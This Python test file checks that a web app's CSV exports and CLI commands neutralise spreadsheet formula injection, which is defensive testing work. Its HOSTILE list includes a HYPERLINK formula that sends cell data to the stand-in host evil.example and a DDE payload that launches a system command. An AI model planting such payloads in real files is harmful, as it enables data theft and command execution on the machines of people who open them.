"""Every CSV export is safe to open in a spreadsheet (OWASP CSV injection), found generically.

Routes are found from the app (every route whose code makes a ``text/csv`` response must declare it in
``responses``, which also documents it in the OpenAPI); CLI commands from the Typer app (every command
whose code writes CSV). Each is run over a workspace full of formula-like text, and no cell of what comes out
may begin with a character a spreadsheet would run.
"""

from __future__ import annotations

import asyncio
import csv
import inspect
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Annotated, Any, get_args, get_origin, get_type_hints

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.ext.asyncio import AsyncEngine
from typer.main import get_command
from typer.models import OptionInfo
from typer.testing import CliRunner

from frontdesk import csvsafe
from frontdesk.app import create_app
from frontdesk.cli import app as cli_app
from frontdesk.csvsafe import FORMULA_STARTS, format_row, neutralise, unquote_cell
from frontdesk.reports.catalogue import REPORTS_BY_KEY
from frontdesk.settings import Settings
from tests.factories import PASSWORD, WorkspaceHandle

SRC = Path(csvsafe.__file__).parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def _api_routes(routes: list[Any]) -> list[APIRoute]:
    """Every route, also inside included routers (which FastAPI keeps as one entry each)."""
    found: list[APIRoute] = []
    for route in routes:
        if isinstance(route, APIRoute):
            found.append(route)
        elif hasattr(route, "original_router"):
            found += _api_routes(route.original_router.routes)
    return found


def _csv_routes(app: FastAPI) -> dict[str, APIRoute]:
    found: dict[str, APIRoute] = {}
    routes = _api_routes(app.routes)
    assert len(routes) > 100
    for route in routes:
        if not isinstance(route, APIRoute):
            continue
        declared = any("text/csv" in (answer.get("content") or {}) for answer in route.responses.values())
        makes_csv = "text/csv" in inspect.getsource(route.endpoint)
        assert declared == makes_csv, f"{route.path}: a text/csv response must be declared in responses"
        if declared:
            found[route.path] = route
    return found


def _file_writing_commands() -> dict[str, Any]:
    """Commands with an option naming a file to write (--output, --report): every one of them writes CSV."""
    found: dict[str, Any] = {}

    def walk(command: Any, prefix: str) -> None:
        for name, sub in getattr(command, "commands", {}).items():
            path = f"{prefix} {name}".strip()
            hints = get_type_hints(sub.callback, include_extras=True) if sub.callback else {}
            for hint in hints.values():
                if get_origin(hint) is not Annotated:
                    continue
                base, *metadata = get_args(hint)
                is_option = any(isinstance(meta, OptionInfo) for meta in metadata)
                if is_option and Path in (base, *get_args(base)):
                    found[path] = sub
            walk(sub, path)

    walk(get_command(cli_app), "")
    return found


def test_no_module_writes_csv_except_through_csvsafe() -> None:
    for path in SRC.rglob("*.py"):
        if path.name == "csvsafe.py":
            continue
        source = path.read_text()
        assert not re.search(r"csv\.(writer|DictWriter)\(", source), f"{path} writes CSV without csvsafe"


def _assert_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "the export is empty"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"cell {cell!r} would run as a formula"
    return rows


async def _sign_in(client: httpx.AsyncClient, workspace: WorkspaceHandle) -> None:
    form = await client.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
    data = {"email": workspace.admin_email, "password": PASSWORD}
    if token:
        data["csrf_token"] = token.group(1)
    assert (await client.post("/login", data=data)).status_code == 303


async def _hostile_workspace(client: httpx.AsyncClient, workspace: WorkspaceHandle) -> dict[str, str]:
    for n, value in enumerate(HOSTILE):
        await workspace.contact(
            name=value,
            emails=[f"c{n}@x.example"],
            phones=["+33612345678"],
            department=value,
        )
    survey = await client.post(
        "/api/v1/surveys", json={"name": "=1+1", "segment": "prospects"}, headers=workspace.headers
    )
    assert survey.status_code == 201, survey.text
    survey_id = str(survey.json()["id"])
    sent = await client.post(f"/api/v1/surveys/{survey_id}/send", headers=workspace.headers)
    assert sent.status_code == 200, sent.text
    return {"segment": "prospects", "survey_id": survey_id}


async def _console_import_with_refused_rows(client: httpx.AsyncClient) -> str:
    """A console import whose rows are refused, so its error report (a CSV route) has rows to check."""
    token = re.search(r'name="csrf_token" value="([^"]+)"', (await client.get("/contacts/import")).text)
    assert token
    rows = "".join(f"{value.replace(',', ' ')},not-an-email {value.replace(',', ' ')}\n" for value in HOSTILE)
    started = await client.post(
        "/contacts/import",
        content=f"name,emails\n{rows}".encode(),
        headers={"Content-Type": "text/csv", "X-CSRF-Token": token.group(1), "X-File-Name": "=evil.csv"},
    )
    assert started.status_code == 303, started.text
    job_url = started.headers["location"]
    for _ in range(200):
        if 'data-import-state="done"' in (await client.get(f"{job_url}/progress")).text:
            return job_url.rsplit("/", 1)[1]
        await asyncio.sleep(0.05)
    raise AssertionError("the import did not finish")


async def test_every_csv_route_neutralises_formulas(
    client: httpx.AsyncClient, workspace: WorkspaceHandle, engine: AsyncEngine, settings: Settings
) -> None:
    routes = _csv_routes(create_app(settings, engine=engine))
    assert {"/api/v1/segments/{segment}/export", "/segments/{segment}/export.csv"} <= set(routes)
    assert {"/api/v1/surveys/{survey_id}/links", "/surveys/{survey_id}/links.csv"} <= set(routes)
    params = await _hostile_workspace(client, workspace)
    await _sign_in(client, workspace)
    params["job_id"] = await _console_import_with_refused_rows(client)
    urls = [
        (path, url)
        for path in routes
        for url in (
            [path.replace("{key}", key) for key in REPORTS_BY_KEY]
            if "{key}" in path
            else [re.sub(r"\{(\w+)\}", lambda m: params[m.group(1)], path)]
        )
    ]
    for path, url in urls:
        response = await client.get(url, headers=workspace.headers if path.startswith("/api/") else {})
        assert response.status_code == 200, (path, response.text)
        assert response.headers["content-type"].startswith("text/csv")
        cells = {cell for row in _assert_safe(response.text) for cell in row}
        if "/reports/" in path:
            continue  # figures, not contacts: tests/reports check their names (teams, products) are neutralised
        if path.endswith("/errors.csv"):
            continue  # an import's refused rows: messages that quote the values, checked safe just above
        for value in HOSTILE:
            assert "'" + value in cells, (path, value)


async def test_every_csv_command_neutralises_formulas(
    client: httpx.AsyncClient, workspace: WorkspaceHandle, cli_env: None, tmp_path: Path
) -> None:
    commands = _file_writing_commands()
    await _hostile_workspace(client, workspace)
    bad_contacts = tmp_path / "contacts.csv"
    bad_contacts.write_text("name,vat_number,department\n-x,=1+1,@here\n@y,,+\n")
    bad_orders = tmp_path / "orders.csv"
    bad_orders.write_text(
        "external_id,ordered_at,buyer_email,currency,sku,quantity,unit_price\n=A1,@,-,+,=,-1,-12.50\n"
    )
    out = tmp_path / "out.csv"
    invocations = {
        "contacts export": ["contacts", "export", "--workspace", str(workspace.id), "--output", str(out)],
        "contacts import": ["contacts", "import", str(bad_contacts), "--report", str(out)],
        "orders import": ["orders", "import", str(bad_orders), "--report", str(out)],
    }
    assert set(invocations) == set(commands), "a new CSV-writing command needs an entry here"
    for name, args in invocations.items():
        out.unlink(missing_ok=True)
        if "import" in args:
            args = [*args, "--workspace", str(workspace.id)]
        result = await asyncio.to_thread(CliRunner().invoke, cli_app, args)
        assert result.exit_code in (0, 1), (name, result.output)
        rows = _assert_safe(out.read_text(encoding="utf-8"))
        assert len(rows) > 1, name
        if name == "contacts export":
            cells = {cell for row in rows for cell in row}
            assert all("'" + value in cells for value in HOSTILE)
            assert "'+33612345678" in cells


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_a_formula_like_cell_gets_a_quote_in_front_and_is_quoted(start: str) -> None:
    line = format_row([start + "1+1"])
    assert line == '"' + "'" + start + '1+1"\r\n'


def test_numbers_the_exporter_writes_stay_numbers() -> None:
    assert format_row([Decimal("-12.50"), -3, 1.5, None, True]) == "-12.50,-3,1.5,,true\r\n"
    assert format_row(["-12.50"]) == '"\'-12.50"\r\n'  # typed text that looks like a number is still text


@given(st.lists(st.text(), max_size=5))
def test_any_text_survives_an_export_and_import_unchanged(cells: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(format_row(cells), newline="")))
    if not cells:
        assert rows == [[]] or rows == []
        return
    assert [unquote_cell(cell) for cell in rows[0]] == cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in rows[0])


@given(st.text())
def test_a_cell_typed_by_hand_loses_only_a_quote_the_exporter_could_have_added(text: str) -> None:
    """Import takes off exactly what export puts on: ``'t Hooft`` in a hand-made file stays ``'t Hooft``."""
    if text.startswith("'") and not text[1:].startswith((*FORMULA_STARTS, "'")):
        assert unquote_cell(text) == text
    assert unquote_cell(neutralise(text)) == text


def test_a_hand_made_name_with_a_leading_apostrophe_imports_as_written() -> None:
    assert unquote_cell("'t Hooft") == "'t Hooft"
    assert unquote_cell("'=SUM(A1)") == "=SUM(A1)"
    assert unquote_cell("''quoted") == "'quoted"
